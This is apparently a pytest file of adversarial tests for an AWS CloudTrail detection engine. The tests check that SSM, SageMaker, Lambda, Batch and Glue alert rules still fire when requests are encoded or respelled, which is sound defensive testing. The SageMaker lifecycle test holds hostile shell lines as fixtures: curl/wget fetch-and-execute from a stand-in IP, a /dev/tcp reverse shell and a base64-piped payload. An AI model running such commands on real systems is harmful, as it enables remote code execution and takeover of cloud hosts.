"""Attacks on the compute-gap rules (decisions/compute_gaps.py and the SageMaker/Glue PassRole extension).

Every rule here is alert-only, so a crafted record cannot make trailguard change anything in any account; what
an attacker who is an admin of one member account can try is silence: encode the payload so the check cannot
see it, spell the request differently, borrow an account that looks like ours, or crash the decision. Each
attempt below must still alert through the full evaluator (pattern routing + decision + caller modes).
"""

from __future__ import annotations

import base64
import copy
import json
from typing import Any

import pytest
from trailguard_engine.catalog import rules_by_id
from trailguard_engine.evaluate import Evaluator
from trailguard_engine.runtime_config import RuntimeConfig

RULES = rules_by_id()
ACCOUNT = "111122223333"
EXT = "444455556666"
OURS = (
    "sagemaker-lifecycle-config-attached",
    "glue-dev-endpoint-ssh-key",
    "batch-job-command-override-by-human",
    "ssm-command-document-by-human",
    "lambda-external-layer",
    "lambda-event-source-external",
)
USER = {"type": "IAMUser", "arn": f"arn:aws:iam::{ACCOUNT}:user/mallory", "accountId": ACCOUNT, "userName": "mallory"}
TERRAFORM = "APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io) terraform-provider-aws/5.68.0"


def record(source: str, name: str, req: Any, *, identity: dict | None = None, ua: str = "aws-cli/2.17.20") -> dict:
    return {
        "eventVersion": "1.09",
        "eventTime": "2026-10-01T14:00:00Z",
        "eventSource": source,
        "eventName": name,
        "eventType": "AwsApiCall",
        "awsRegion": "us-east-1",
        "recipientAccountId": ACCOUNT,
        "sourceIPAddress": "203.0.113.10",
        "userAgent": ua,
        "userIdentity": identity or USER,
        "requestParameters": req,
        "responseElements": None,
        "eventID": "0b8ccda3-5098-5cf5-a940-9687d6af4a00",
        "managementEvent": True,
        "readOnly": False,
    }


def decision(rec: dict, rule: str, cfg: RuntimeConfig | None = None) -> str:
    result = Evaluator(list(RULES.values()), cfg or RuntimeConfig()).evaluate(rec, only_rule=rule)
    found = [f.decision for f in result.findings if f.rule == rule]
    return found[0] if found else "not selected"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("rule_id", OURS)
def test_rules_cannot_act(rule_id: str) -> None:
    """A crafted record can at most raise an alert: no remediation exists to be steered."""
    rule = RULES[rule_id]
    assert rule.remediation is None and rule.default_mode == "alert"
    for ev in [*rule.examples_positive, *(v["event"] for v in rule.examples_variants)]:
        assert decision(copy.deepcopy(ev["detail"]), rule_id) == "alert"


# ------------------------------------------------------------------ SSM documents: hiding the plugin name


@pytest.mark.parametrize(
    "content",
    [
        # JSON unicode escapes: SSM decodes them, a text search would not see the name.
        '{"schemaVersion":"2.2","mainSteps":[{"action":"aws:run\\u0053hellScript","name":"s","inputs":{}}]}',
        # Duplicate keys: a parser that keeps the first value would see the harmless one.
        '{"schemaVersion":"2.2","mainSteps":[{"action":"aws:runShellScript","action":"aws:configurePackage","name":"s"}]}',
        # Schema 1.2 names the plugin as a key under runtimeConfig.
        json.dumps({"schemaVersion": "1.2", "runtimeConfig": {"aws:runShellScript": {"properties": [{}]}}}),
        # Docker action runs arbitrary commands too.
        json.dumps({"schemaVersion": "2.2", "mainSteps": [{"action": "aws:runDockerAction", "name": "d"}]}),
        # YAML double-quoted escapes and tags cannot be read without a YAML parser: uninspectable, so alert.
        'schemaVersion: "2.2"\nmainSteps:\n- action: "aws:run\\x53hellScript"\n  name: s\n',
        "schemaVersion: '2.2'\nmainSteps:\n- action: !!str aws:runPowerShellScript\n",
        # Pathological nesting must not crash the decision (and cannot be inspected).
        "[" * 100_000 + "]" * 100_000,
    ],
)
def test_ssm_document_encodings_still_alert(content: str) -> None:
    rec = record("ssm.amazonaws.com", "CreateDocument", {"name": "d", "documentType": "Command", "content": content})
    assert decision(rec, "ssm-command-document-by-human") == "alert"


def test_ssm_document_terraform_agent_does_not_hide_a_person() -> None:
    content = json.dumps({"schemaVersion": "2.2", "mainSteps": [{"action": "aws:runShellScript", "name": "s"}]})
    rec = record("ssm.amazonaws.com", "CreateDocument", {"name": "d", "content": content}, ua=TERRAFORM)
    assert decision(rec, "ssm-command-document-by-human") == "alert"


def test_ssm_too_large_request_alerts() -> None:
    rec = record("ssm.amazonaws.com", "CreateDocument", {"reason": "requestParameters too large", "omitted": True})
    assert decision(rec, "ssm-command-document-by-human") == "alert"


# ------------------------------------------------------------------ SageMaker lifecycle scripts


@pytest.mark.parametrize(
    "script",
    [
        'eval "$(curl -s https://198.51.100.7/x)"',
        'bash -c "$(wget -qO- https://198.51.100.7/x)"',
        "source <(curl -s https://198.51.100.7/x)",
        "BASH -I >& /DEV/TCP/198.51.100.7/443 0>&1",
        "echo Y3VybCBldmlsIHwgc2g= | base64 --decode | bash",
    ],
)
def test_lifecycle_script_obfuscations_alert(script: str) -> None:
    encoded = b64(script)
    wrapped = "\n".join(encoded[i : i + 16] for i in range(0, len(encoded), 16))
    req = {"NotebookInstanceLifecycleConfigName": "c", "OnStart": [{"Content": wrapped}]}
    rec = record("sagemaker.amazonaws.com", "UpdateNotebookInstanceLifecycleConfig", req)
    assert decision(rec, "sagemaker-lifecycle-config-attached") == "alert"


def test_attaching_alerts_whatever_the_script_and_caller() -> None:
    """The script of an attached configuration may be harmless-looking or not logged: attaching alone alerts."""
    req = {"NotebookInstanceName": "nb", "LifecycleConfigName": "benign-looking"}
    cfn = {**USER, "invokedBy": "cloudformation.amazonaws.com"}
    for ident, ua in ((USER, "aws-cli/2"), (cfn, "cloudformation.amazonaws.com")):
        rec = record("sagemaker.amazonaws.com", "UpdateNotebookInstance", req, identity=ident, ua=ua)
        assert decision(rec, "sagemaker-lifecycle-config-attached") == "alert"


# ------------------------------------------------------------------ Lambda: accounts that look like ours


@pytest.mark.parametrize(
    "arn",
    [
        f"ARN:AWS:LAMBDA:us-east-1:{EXT}:layer:x:1",
        f"arn:aws-cn:lambda:cn-north-1:{EXT}:layer:x:1",
        f" arn:aws:lambda:us-east-1:{EXT}:layer:x:1 ",
    ],
)
def test_layer_arn_spellings_alert(arn: str) -> None:
    rec = record(
        "lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", {"functionName": "f", "layers": [arn]}
    )
    assert decision(rec, "lambda-external-layer") == "alert"


def test_recipient_account_cannot_make_a_foreign_layer_ours() -> None:
    """The function's account is the envelope's (set by EventBridge), not a field in the record body."""
    rec = record(
        "lambda.amazonaws.com",
        "CreateFunction20150331",
        {"functionName": "f", "layers": [f"arn:aws:lambda:us-east-1:{EXT}:layer:x:1"]},
    )
    envelope = {
        "version": "0",
        "id": "1",
        "detail-type": "AWS API Call via CloudTrail",
        "source": "aws.lambda",
        "account": ACCOUNT,
        "time": "2026-10-01T14:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": {**rec, "recipientAccountId": EXT},
    }
    result = Evaluator(list(RULES.values()), RuntimeConfig()).evaluate(envelope, only_rule="lambda-external-layer")
    assert [f.decision for f in result.findings] == ["alert"]


def test_event_source_uppercase_arn_alerts() -> None:
    req = {"functionName": "f", "eventSourceArn": f"ARN:AWS:SQS:us-east-1:{EXT}:q"}
    rec = record("lambda.amazonaws.com", "CreateEventSourceMapping20150331", req)
    assert decision(rec, "lambda-event-source-external") == "alert"
    org = RuntimeConfig(organization_accounts=frozenset({ACCOUNT, EXT}))
    assert decision(rec, "lambda-event-source-external", org) == "skip"


# ------------------------------------------------------------------ Batch and Glue spellings


def test_batch_command_as_a_string_and_root_caller() -> None:
    root = {"type": "Root", "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT}
    req = {"jobName": "j", "jobQueue": "q", "jobDefinition": "d:1", "containerOverrides": {"command": "sh -c id"}}
    assert (
        decision(record("batch.amazonaws.com", "SubmitJob", req, identity=root), "batch-job-command-override-by-human")
        == "alert"
    )


def test_glue_key_given_as_a_single_string() -> None:
    req = {"endpointName": "e", "addPublicKeys": "ssh-ed25519 AAAA"}
    assert decision(record("glue.amazonaws.com", "UpdateDevEndpoint", req), "glue-dev-endpoint-ssh-key") == "alert"


# ------------------------------------------------------------------ PassRole into SageMaker and Glue


@pytest.mark.parametrize("key", ["roleArn", "RoleArn", "ROLEARN"])
def test_passrole_key_spellings(key: str) -> None:
    req = {"notebookInstanceName": "nb", key: f"arn:aws:iam::{ACCOUNT}:role/ADMINISTRATOR"}
    rec = record("sagemaker.amazonaws.com", "CreateNotebookInstance", req)
    assert decision(rec, "iam-privileged-role-passed") in ("alert", "remediate")
